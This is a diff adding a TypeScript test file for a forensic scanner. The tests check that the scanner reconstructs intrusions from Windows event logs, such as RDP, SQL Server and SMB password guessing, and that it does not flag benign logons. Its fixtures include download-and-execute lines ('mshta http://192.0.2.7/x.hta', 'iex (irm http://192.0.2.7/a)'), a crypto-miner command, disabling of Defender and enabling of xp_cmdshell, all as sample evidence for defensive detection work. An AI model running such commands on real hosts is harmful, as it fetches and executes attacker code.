@@ -1,0 +1,384 @@
+/** Event logs of Windows hosts: what becomes of their records, and the way in that follows from them, or none. */
+import { describe, expect, test } from 'bun:test';
+import { given } from '../../src/formats/evtx/binxml.fixture.ts';
+import { type GivenEvent, logOf } from '../../src/formats/evtx/evtx.fixture.ts';
+import { emptyConfig } from '../../src/model/config.ts';
+import type { LogEvent } from '../../src/model/facts/event.ts';
+import type { ScanResult } from '../../src/model/result.ts';
+import { scan } from '../../src/scan/scan.ts';
+import { folderTarget } from '../../src/target/folder.ts';
+import { type HostSpec, plantWindows, ticks, usualAccounts } from './windows-host.fixture.ts';
+
+const at = (iso: string, seconds = 0): number => Date.parse(iso) * 1000 + seconds * 1e6;
+const auditing = 'Microsoft-Windows-Security-Auditing';
+const run = 'Microsoft\\Windows\\CurrentVersion\\Run';
+
+const logon = (
+  eventId: 4624 | 4625,
+  us: number,
+  account: string,
+  from: string,
+  type: number,
+): GivenEvent => ({
+  provider: auditing,
+  channel: 'Security',
+  computer: 'WEB-07',
+  eventId,
+  us,
+  data: {
+    TargetUserName: account,
+    TargetDomainName: 'WEB-07',
+    LogonType: given.u32(type),
+    WorkstationName: 'KALI',
+    IpAddress: from,
+    IpPort: '0',
+    SubStatus: given.hex32(eventId === 4625 ? 0xc000006a : 0),
+  },
+});
+
+const guesses = (
+  from: string,
+  start: string,
+  count: number,
+  accounts: readonly string[] = ['administrator'],
+): readonly GivenEvent[] =>
+  Array.from({ length: count }, (_, index) =>
+    logon(4625, at(start, index * 3), accounts[index % accounts.length] ?? '', from, 3),
+  );
+
+/** A host that is used: its administrator comes from his own network each day. */
+const usual: readonly GivenEvent[] = Array.from({ length: 10 }, (_, day) =>
+  logon(4624, at('2026-02-18T01:00:00Z', day * 86_400), 'Administrator', '10.0.0.50', 10),
+);
+
+interface Told {
+  readonly result: ScanResult;
+  readonly events: readonly LogEvent[];
+}
+
+async function look(spec: HostSpec, logs: Readonly<Record<string, readonly GivenEvent[]>>): Promise<Told> {
+  const files = Object.fromEntries(
+    Object.entries(logs).map(([name, events]) => [
+      `Windows/System32/winevt/Logs/${name}.evtx`,
+      logOf(events),
+    ]),
+  );
+  const planted = plantWindows({ ...spec, files: { ...spec.files, ...files } });
+  const target = folderTarget(planted.path);
+  const events: LogEvent[] = [];
+  try {
+    const taker = {
+      begin: () => undefined,
+      event: (event: LogEvent) => void events.push(event),
+      end: () => undefined,
+    };
+    const asked = {
+      interval: 0,
+      active: false,
+      thorough: false,
+      keepSecrets: false,
+      seen: [],
+      language: 'en',
+      config: emptyConfig,
+    } as const;
+    const { result } = await scan(target, undefined, { ...asked, logs: { taker, mostBytes: 2 ** 36 } }, '0');
+    return { result, events };
+  } finally {
+    await target.close();
+    planted.remove();
+  }
+}
+
+/** A miner in a Run key, set minutes after the attacker came. */
+const mined = (written: string): HostSpec => ({
+  software: { [run]: { values: { Update: 'mshta http://192.0.2.7/x.hta' }, written: ticks(written) } },
+});
+
+const ways = ({ result }: Told): readonly string[] =>
+  (result.entry ?? []).map(
+    ({ vector, grade, account, attackers }) => `${grade} ${vector} ${account} ${attackers.join(',')}`,
+  );
+
+describe('the way in', () => {
+  test('Remote Desktop that was guessed, then the first trace within minutes', async () => {
+    const told = await look(mined('2026-03-01T03:12:00Z'), {
+      Security: [
+        ...usual,
+        ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
+        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
+      ],
+    });
+    expect(ways(told)).toEqual(['confirmed rdp-brute-force Administrator 203.0.113.9']);
+    const [way] = told.result.entry ?? [];
+    expect(way?.firstSuccess).toBe('2026-03-01T03:05:00Z');
+    expect(way?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'file']);
+    expect(told.result.infectionWindow).toMatchObject({
+      from: '2026-03-01T03:05:00Z',
+      to: '2026-03-01T03:12:00Z',
+    });
+  });
+
+  test('SQL Server that was guessed by a subnet', async () => {
+    const sql = (eventId: number, us: number, from: string): GivenEvent => ({
+      provider: 'MSSQLSERVER',
+      channel: 'Application',
+      computer: 'WEB-07',
+      eventId,
+      us,
+      data: ['sa', ' Reason: Password did not match.', ` [CLIENT: ${from}]`],
+    });
+    const tries = Array.from({ length: 60 }, (_, index) =>
+      sql(18456, at('2026-03-01T01:00:00Z', index * 2), `203.0.113.${(index % 4) + 10}`),
+    );
+    const told = await look(mined('2026-03-01T03:12:00Z'), {
+      Application: [...tries, sql(18453, at('2026-03-01T03:10:00Z'), '203.0.113.77')],
+      Security: usual,
+    });
+    expect(ways(told)).toEqual(['confirmed mssql-brute-force sa 203.0.113.77']);
+  });
+
+  test('file sharing that was guessed, long and slowly', async () => {
+    const slow = Array.from({ length: 45 }, (_, hour) =>
+      logon(4625, at('2026-02-27T00:00:00Z', hour * 3_600), 'administrator', '203.0.113.40', 3),
+    );
+    const told = await look(mined('2026-03-01T03:12:00Z'), {
+      Security: [
+        ...usual,
+        ...slow,
+        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.40', 3),
+      ],
+    });
+    expect(ways(told)).toEqual(['confirmed smb-brute-force Administrator 203.0.113.40']);
+  });
+
+  test('a shadow account that was made over file sharing, told by the log of sessions alone', async () => {
+    const session: GivenEvent = {
+      provider: 'Microsoft-Windows-TerminalServices-LocalSessionManager',
+      channel: 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
+      computer: 'WEB-07',
+      eventId: 21,
+      us: at('2026-02-28T19:55:00Z'),
+      data: { User: 'WEB-07\\Administrator', SessionID: given.u32(2), Address: '198.51.100.23' },
+    };
+    const told = await look(
+      {
+        users: [
+          ...usualAccounts,
+          { rid: 1004, name: 'admin$', cloneOf: 500, written: ticks('2026-02-28T20:00:00Z') },
+        ],
+        groups: [{ rid: 544, name: 'Administrators', members: [500, 1001, 1004] }],
+      },
+      { 'Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational': [session], Security: usual },
+    );
+    expect(ways(told)).toHaveLength(1);
+    expect(ways(told)[0]).toContain('rdp-brute-force Administrator 198.51.100.23');
+  });
+
+  test('a log that was cleared is told as a hole in what is known', async () => {
+    const cleared: GivenEvent = {
+      provider: 'Microsoft-Windows-Eventlog',
+      channel: 'Security',
+      computer: 'WEB-07',
+      eventId: 1102,
+      us: at('2026-03-01T04:00:00Z'),
+      userData: 'LogFileCleared',
+      data: { SubjectUserName: 'Administrator' },
+    };
+    const told = await look(mined('2026-03-01T03:12:00Z'), { Security: [cleared] });
+    expect(told.events.filter(({ what }) => what === 'host')).toMatchObject([{ action: 'log-cleared' }]);
+    expect(told.result.gaps).toMatchObject([{ what: 'emptied', to: '2026-03-01T04:00:00Z' }]);
+  });
+});
+
+describe('no way in', () => {
+  test.each<[string, readonly GivenEvent[]]>([
+    [
+      'guesses that never came in',
+      [
+        ...usual,
+        ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 500, ['administrator', 'admin', 'test', 'sa']),
+      ],
+    ],
+    [
+      'an administrator who mistypes, and works minutes before',
+      [
+        ...usual,
+        ...guesses('10.0.0.50', '2026-03-01T03:00:00Z', 3),
+        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '10.0.0.50', 10),
+      ],
+    ],
+    [
+      'a service with an old password that fails all night from its own server',
+      [
+        ...usual,
+        ...guesses('10.0.0.60', '2026-03-01T00:00:00Z', 300, ['backup']),
+        logon(4624, at('2026-02-20T01:00:00Z'), 'backup', '10.0.0.60', 3),
+        logon(4624, at('2026-03-01T03:06:00Z'), 'backup', '10.0.0.60', 3),
+      ],
+    ],
+    [
+      'logons of the machine itself',
+      [
+        ...usual,
+        logon(4624, at('2026-03-01T03:08:00Z'), 'WEB-07$', '203.0.113.5', 3),
+        logon(4624, at('2026-03-01T03:08:01Z'), 'ANONYMOUS LOGON', '203.0.113.5', 3),
+      ],
+    ],
+  ])('%s', async (_, events) => {
+    expect(ways(await look(mined('2026-03-01T03:12:00Z'), { Security: events }))).toEqual([]);
+  });
+
+  test('on a host where nothing was left nobody is accused, and it is clean', async () => {
+    const told = await look(
+      {},
+      {
+        Security: [
+          ...usual,
+          ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
+          logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
+        ],
+      },
+    );
+    expect(told.result.verdict).toBe('clean');
+    expect(told.result.entry ?? []).toEqual([]);
+  });
+
+  test('1149 is no logon', async () => {
+    const reached: GivenEvent = {
+      provider: 'Microsoft-Windows-TerminalServices-RemoteConnectionManager',
+      channel: 'x',
+      computer: 'WEB-07',
+      eventId: 1149,
+      us: at('2026-03-01T03:05:00Z'),
+      userData: 'EventXML',
+      data: { Param1: 'Administrator', Param2: '', Param3: '203.0.113.9' },
+    };
+    const told = await look(mined('2026-03-01T03:12:00Z'), {
+      'Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational': [reached],
+      Security: usual,
+    });
+    expect(told.events).toContainEqual(
+      expect.objectContaining({ what: 'service', service: 'rdp', action: 'reached', from: '203.0.113.9' }),
+    );
+    expect(ways(told)).toEqual([]);
+  });
+});
+
+describe('events', () => {
+  const event = (eventId: number, provider: string, data: GivenEvent['data']): GivenEvent => ({
+    provider,
+    channel: 'Security',
+    computer: 'WEB-07',
+    eventId,
+    us: at('2026-03-01T03:00:00Z'),
+    ...(data === undefined ? {} : { data }),
+  });
+
+  test.each<[string, GivenEvent, Readonly<Record<string, unknown>>]>([
+    [
+      'an account that was made',
+      event(4720, auditing, { TargetUserName: 'admin$', SubjectUserName: 'Administrator' }),
+      { what: 'account', action: 'added', account: 'admin$', by: 'Administrator' },
+    ],
+    [
+      'one that joins the administrators',
+      event(4732, auditing, { MemberSid: given.sid(21, 1, 2, 3, 1004), TargetUserName: 'Administrators' }),
+      { what: 'account', action: 'member-added', group: 'Administrators', account: 'S-1-5-21-1-2-3-1004' },
+    ],
+    [
+      'a service that was installed',
+      event(7045, 'Service Control Manager', {
+        ServiceName: 'UPlugPlay',
+        ImagePath: 'C:\\Windows\\sqhost.exe',
+        AccountName: 'LocalSystem',
+      }),
+      { what: 'service', action: 'service-installed', detail: 'UPlugPlay: C:\\Windows\\sqhost.exe' },
+    ],
+    [
+      'a task that was registered',
+      event(4698, auditing, {
+        TaskName: '\\x',
+        TaskContent:
+          '<Task><Actions><Exec><Command>mshta</Command><Arguments>http://192.0.2.7/x &amp;</Arguments></Exec></Actions></Task>',
+      }),
+      { action: 'task-registered', detail: '\\x: mshta http://192.0.2.7/x &' },
+    ],
+    [
+      'an exclusion of Defender',
+      event(5007, 'Microsoft-Windows-Windows Defender', {
+        'Old Value': '',
+        'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0',
+      }),
+      { service: 'defender', action: 'setting-changed' },
+    ],
+    [
+      'protection that was switched off',
+      event(5001, 'Microsoft-Windows-Windows Defender', { 'Product Name': 'x' }),
+      { service: 'defender', action: 'protection-off' },
+    ],
+    [
+      'a command with its line',
+      event(4688, auditing, {
+        SubjectUserName: 'Administrator',
+        NewProcessName: 'C:\\x.exe',
+        CommandLine: 'x.exe -o pool.example.com:3333',
+        NewProcessId: given.hex64(4711n),
+      }),
+      { what: 'command', command: 'x.exe -o pool.example.com:3333', pid: 4711, account: 'Administrator' },
+    ],
+    [
+      'a script block',
+      event(4104, 'Microsoft-Windows-PowerShell', { ScriptBlockText: 'iex (irm http://192.0.2.7/a)' }),
+      { what: 'command', command: 'iex (irm http://192.0.2.7/a)' },
+    ],
+    [
+      'OpenSSH of Windows',
+      event(4, 'OpenSSH', {
+        process: 'sshd',
+        payload: 'Failed password for invalid user test from 203.0.113.4 port 50000 ssh2',
+      }),
+      { what: 'login', service: 'sshd', outcome: 'failed', known: false, from: '203.0.113.4', port: 50000 },
+    ],
+    [
+      'xp_cmdshell that was set',
+      event(15457, 'MSSQLSERVER', ['xp_cmdshell', '0', '1']),
+      { service: 'sqlserver', action: 'setting', detail: 'xp_cmdshell | 0 | 1' },
+    ],
+  ])('%s', async (_, one, expected) => {
+    const { events } = await look({}, { Security: [one] });
+    expect(events).toHaveLength(1);
+    expect(events[0]).toMatchObject({ host: 'WEB-07', us: at('2026-03-01T03:00:00Z'), ...expected });
+  });
+
+  test('a log that is none is told, and the scan goes on', async () => {
+    const planted = plantWindows({
+      files: { 'Windows/System32/winevt/Logs/Security.evtx': Buffer.alloc(70_000, 0x41) },
+    });
+    const target = folderTarget(planted.path);
+    try {
+      const taker = { begin: () => undefined, event: () => undefined, end: () => undefined };
+      const asked = {
+        interval: 0,
+        active: false,
+        thorough: false,
+        keepSecrets: false,
+        seen: [],
+        language: 'en',
+        config: emptyConfig,
+      } as const;
+      const { result } = await scan(
+        target,
+        undefined,
+        { ...asked, logs: { taker, mostBytes: 2 ** 36 } },
+        '0',
+      );
+      expect(
+        result.sources.some(({ artifact, status }) => artifact === 'windows.log' && status === 'error'),
+      ).toBe(true);
+      expect(result.verdict).toBe('clean');
+    } finally {
+      await target.close();
+      planted.remove();
+    }
+  });
+});
